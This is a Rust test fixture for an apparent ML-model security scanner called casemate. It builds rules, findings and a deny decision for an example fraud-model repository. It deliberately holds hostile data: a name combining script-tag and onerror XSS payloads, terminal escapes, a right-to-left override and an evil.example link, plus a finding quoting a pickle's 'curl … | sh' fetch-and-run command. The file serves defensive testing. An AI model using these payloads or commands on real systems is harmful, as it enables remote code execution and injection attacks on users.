//! One assessment and one scan with something of everything in them.

use std::collections::BTreeMap;

use casemate_core::{
    Asset, AssetId, AssetKind, Confidence, Coverage, Decision, Digest, Effect, Finding, Location,
    Outcome, PathText, Reason, Reference, Region, Rule, RuleId, Severity, Status, Suppression,
    Timestamp, Verdict,
};
use casemate_report::{Artifact, Assessment, Configuration, Exception, Logged, Parts, Scan};

/// A name that attacks whatever shows it.
pub(crate) const HOSTILE: &str = "</script><script>alert(1)</script>\u{1b}[31m\u{202e}gpj.\
     `|@root](https://evil.example)<img src=x onerror=alert(1)>\n## Allowed";

pub(crate) fn rules() -> Vec<Rule> {
    vec![
        Rule {
            id: RuleId::new("CM-PKL-001"),
            title: "Pickle calls a function that runs commands".into(),
            severity: Severity::Critical,
            confidence: Confidence::High,
            description: "A pickle is a program. This one imports a function that starts a \
                 process and calls it, so loading the file runs the command with the rights of \
                 whoever loads it."
                .into(),
            remediation: "Delete the file, and ask its author for the weights as safetensors."
                .into(),
            references: vec![
                Reference::new("CWE-502"),
                Reference::new("AML.T0011.000"),
                Reference::new("T1059"),
                Reference::new("ML06:2023"),
            ]
            .into(),
            bad: None,
            good: None,
        },
        Rule {
            id: RuleId::new("CM-PKL-007"),
            title: "Pickle imports something that nobody vouches for".into(),
            severity: Severity::Medium,
            confidence: Confidence::Medium,
            description:
                "The import is on no allowlist. What it does when it is called is not known.".into(),
            remediation: "Load the file with `weights_only=True`, or convert it to safetensors."
                .into(),
            references: vec![Reference::new("CWE-502")].into(),
            bad: None,
            good: None,
        },
        Rule {
            id: RuleId::new("CM-SEC-004"),
            title: "Access token in a file".into(),
            severity: Severity::High,
            confidence: Confidence::High,
            description: "Whoever reads the file can act as the owner of the token until it is \
                 revoked. Deleting the line does not help: the history keeps it."
                .into(),
            remediation: "Revoke the token, then keep the new one in a secret store.".into(),
            references: vec![
                Reference::new("CWE-798"),
                Reference::new("T1552.001"),
                Reference::new("LLM02:2025"),
            ]
            .into(),
            bad: None,
            good: None,
        },
        Rule {
            id: RuleId::new("CM-EXC-001"),
            title: "Exception has ended".into(),
            severity: Severity::Low,
            confidence: Confidence::High,
            description: "An exception of the configuration is past its date and covers nothing."
                .into(),
            remediation: "Repair what it covered, or have its owner renew it.".into(),
            references: Vec::new().into(),
            bad: None,
            good: None,
        },
        Rule {
            id: RuleId::new("CM-DOC-999"),
            title: "A rule that no finding names".into(),
            severity: Severity::Info,
            confidence: Confidence::Low,
            description: "It must not be in a report.".into(),
            remediation: "None.".into(),
            references: Vec::new().into(),
            bad: None,
            good: None,
        },
    ]
}

pub(crate) fn assessment() -> Assessment {
    Assessment::new(parts(), &rules())
}

pub(crate) fn parts() -> Parts {
    let assets = vec![
        asset("models/fraud.pkl", AssetKind::Model, "pickle"),
        asset("models/encoder.pt", AssetKind::Model, "torch-zip"),
        asset(
            "models/embedder.safetensors",
            AssetKind::Model,
            "safetensors",
        ),
        asset("models/reranker.onnx", AssetKind::Model, "onnx"),
        asset("data/transactions.csv", AssetKind::Dataset, "csv"),
        asset("notebooks/explore.ipynb", AssetKind::Notebook, "ipynb"),
        asset("src/train.py", AssetKind::TrainingCode, "python"),
        asset("src/serve.py", AssetKind::ServingCode, "python"),
        asset("deploy/serve.yaml", AssetKind::Kubernetes, "kubernetes"),
        asset("Dockerfile", AssetKind::Container, "dockerfile"),
        asset("requirements.txt", AssetKind::Lockfile, "requirements"),
        asset(&format!("models/{HOSTILE}.pkl"), AssetKind::Model, "pickle"),
    ];
    let mut outcomes: Vec<Outcome> = Vec::new();
    for asset in &assets {
        outcomes.push(outcome(asset, "secrets", Status::Pass));
        if asset.kind == AssetKind::Model {
            outcomes.push(outcome(asset, "artifact", Status::Pass));
        }
    }
    let place = |check: &str, path: &str, outcomes: &[Outcome]| {
        let found = outcomes
            .iter()
            .position(|o| o.check == check && o.name.ends_with(path));
        found.unwrap_or_else(|| panic!("{check} looks at {path}"))
    };
    for (check, path, findings) in findings(&assets) {
        let at = place(check, path, &outcomes);
        outcomes[at].result = Status::Fail;
        outcomes[at].findings = findings;
    }
    let at = place("artifact", "reranker.onnx", &outcomes);
    outcomes[at].result = Status::Undetermined;
    outcomes[at].coverage = Coverage::Partial;
    outcomes[at].reason = Some("external data in `weights.bin` is not in the tree".into());
    let at = place("secrets", "transactions.csv", &outcomes);
    outcomes[at].result = Status::Error;
    outcomes[at].coverage = Coverage::Partial;
    outcomes[at].reason = Some("permission denied".into());
    let at = place("artifact", "encoder.pt", &outcomes);
    outcomes[at].result = Status::Undetermined;
    outcomes.sort_by(|a, b| (&a.check, &a.name).cmp(&(&b.check, &b.name)));

    let ended = Location {
        file: "casemate.toml".into(),
        ..Location::default()
    };
    Parts {
        version: "0.1.0".into(),
        generated: time("2026-03-01T09:30:00Z"),
        root: "examples/01-fraud-model".into(),
        repository: "fraud".into(),
        files: 37,
        bytes: 2_190_321,
        findings: vec![Finding::new(
            &rules()[3],
            &repository_file("casemate.toml"),
            &"casemate.toml".into(),
            ended,
            "CM-PKL-007 models/old",
            "The exception for CM-PKL-007 in `models/old` ended on 2026-02-01",
        )],
        assets,
        populations: casemate_core::aggregate(&outcomes),
        outcomes,
        imports: Vec::new(),
        configuration: configuration(),
        decision: decision(),
        logged: Some(Logged {
            origin: "log.example".into(),
            first: 40,
            last: 52,
            pending: false,
        }),
    }
}

fn findings(assets: &[Asset]) -> Vec<(&'static str, &'static str, Vec<Finding>)> {
    let rules = rules();
    let find = |path: &str| {
        let asset = assets.iter().find(|asset| asset.name.ends_with(path));
        asset.unwrap_or_else(|| panic!("{path} is an asset"))
    };
    let finding =
        |rule: usize, path: &str, members: &[&str], region, anchor: &str, message: &str| {
            let asset = find(path);
            let location = Location {
                file: file(asset),
                members: members.iter().map(|member| (*member).to_owned()).collect(),
                region,
            };
            Finding::new(
                &rules[rule],
                &asset.id,
                &path.into(),
                location,
                anchor,
                message,
            )
        };
    let bytes = |start, length| Some(Region::Bytes { start, length });
    let text = |line, column, length| {
        Some(Region::Text {
            line,
            column,
            end_line: line,
            end_column: column + length,
        })
    };
    let mut accepted = finding(
        1,
        "models/encoder.pt",
        &["archive/data.pkl"],
        bytes(212, 40),
        "acme.layers.Gate",
        "Imports `acme.layers.Gate`, which is on no allowlist",
    );
    accepted.suppression = Some(Suppression {
        reason: "our own layer, reviewed at 4f2a91c".into(),
        owner: "ml-platform@acme.example".into(),
        expires: Some(time("2026-06-30T00:00:00Z")),
    });
    vec![
        (
            "artifact",
            "models/fraud.pkl",
            vec![
                finding(
                    0,
                    "models/fraud.pkl",
                    &[],
                    bytes(28, 2),
                    "os.system",
                    "Calls `os.system` with `curl -s http://203.0.113.7/a | sh` when it is loaded",
                )
                .with_evidence("callee", "os.system")
                .with_evidence("opcode", "REDUCE at 0x1c"),
                finding(
                    1,
                    "models/fraud.pkl",
                    &[],
                    bytes(9, 14),
                    "acme.Tree",
                    "Imports `acme.Tree`, which is on no allowlist",
                ),
                finding(
                    1,
                    "models/fraud.pkl",
                    &[],
                    bytes(90, 14),
                    "acme.Tree 2",
                    "Imports `acme.Tree`, which is on no allowlist",
                ),
            ],
        ),
        ("artifact", "models/encoder.pt", vec![accepted]),
        (
            "artifact",
            "Allowed.pkl",
            vec![finding(
                0,
                "Allowed.pkl",
                &[HOSTILE],
                bytes(0, 1),
                HOSTILE,
                &format!("Calls {HOSTILE}"),
            )],
        ),
        (
            "secrets",
            "src/train.py",
            vec![
                finding(
                    2,
                    "src/train.py",
                    &[],
                    text(14, 9, 40),
                    "HF_TOKEN",
                    "A Hugging Face access token is assigned to `HF_TOKEN`",
                )
                .with_evidence("redacted", "hf_k…Q2 (37 characters)"),
            ],
        ),
    ]
}

fn configuration() -> Configuration {
    Configuration {
        sources: vec!["built-in".into(), "--config ci/casemate.toml".into()],
        policy: Digest::of(b"policy"),
        ignored: vec![path("casemate.toml"), path("policies/gate.rego")],
        exceptions: vec![
            Exception {
                rule: "CM-PKL-007".into(),
                scope: "models/encoder.pt".into(),
                reason: "our own layer, reviewed at 4f2a91c".into(),
                owner: "ml-platform@acme.example".into(),
                expires: time("2026-06-30T00:00:00Z"),
                expired: false,
                findings: 1,
            },
            Exception {
                rule: "CM-PKL-007".into(),
                scope: "models/old".into(),
                reason: "to be retrained".into(),
                owner: "fraud@acme.example".into(),
                expires: time("2026-02-01T00:00:00Z"),
                expired: true,
                findings: 0,
            },
        ],
        baseline: None,
    }
}

fn decision() -> Decision {
    Decision {
        gate: "assess".into(),
        subject: repository_file(""),
        outcome: Verdict::Deny,
        reasons: vec![
            Reason {
                effect: Effect::Deny,
                message: "2 findings are critical".into(),
                rule: Some(RuleId::new("CM-PKL-001")),
                subject: None,
            },
            Reason {
                effect: Effect::Deny,
                message: "2 outcomes are not complete".into(),
                rule: None,
                subject: None,
            },
            Reason {
                effect: Effect::Warn,
                message: "1 exception has ended".into(),
                rule: Some(RuleId::new("CM-EXC-001")),
                subject: None,
            },
        ],
        policy: Digest::of(b"policy"),
        input: Digest::of(b"input"),
        obligations: Vec::new(),
    }
}

pub(crate) fn scan() -> Scan {
    let Parts { outcomes, .. } = parts();
    let artifacts = outcomes
        .into_iter()
        .filter(|o| o.check == "artifact")
        .map(|mut outcome| {
            let verdict = match outcome.name.rsplit('/').next() {
                Some("fraud.pkl") => "dangerous",
                Some("embedder.safetensors") => "inert",
                Some("encoder.pt") => "known",
                Some("reranker.onnx") => "unknown",
                _ => "dangerous",
            };
            outcome.facts.insert("verdict".into(), verdict.into());
            Artifact::new(outcome.name.as_str().into(), outcome)
        });
    Scan::new("0.1.0", artifacts.collect(), &rules())
}

pub(crate) fn outcome(asset: &Asset, check: &str, result: Status) -> Outcome {
    let format = asset.labels["format"].clone();
    Outcome {
        check: check.into(),
        version: "1".into(),
        subject: asset.id.clone(),
        name: asset.name.clone(),
        input: Some(Digest::of(asset.name.as_bytes())),
        result,
        coverage: Coverage::Complete,
        reason: None,
        facts: BTreeMap::from([("format".to_owned(), format)]),
        findings: Vec::new(),
    }
}

pub(crate) fn asset(relative: &str, kind: AssetKind, format: &str) -> Asset {
    let id = match kind {
        AssetKind::Model => AssetId::Artifact {
            digest: Digest::of(relative.as_bytes()),
        },
        _ => repository_file(relative),
    };
    Asset {
        id,
        kind,
        name: path(relative).to_string(),
        labels: BTreeMap::from([
            ("format".to_owned(), format.to_owned()),
            ("sha256".to_owned(), Digest::of(relative.as_bytes()).hex()),
        ]),
    }
}

fn file(asset: &Asset) -> PathText {
    asset.name.as_str().into()
}

fn repository_file(relative: &str) -> AssetId {
    AssetId::File {
        repository: "fraud".into(),
        path: relative.into(),
    }
}

fn path(relative: &str) -> PathText {
    PathText::from("examples/01-fraud-model").join(&relative.into())
}

fn time(text: &str) -> Timestamp {
    text.parse().expect("an RFC 3339 time")
}
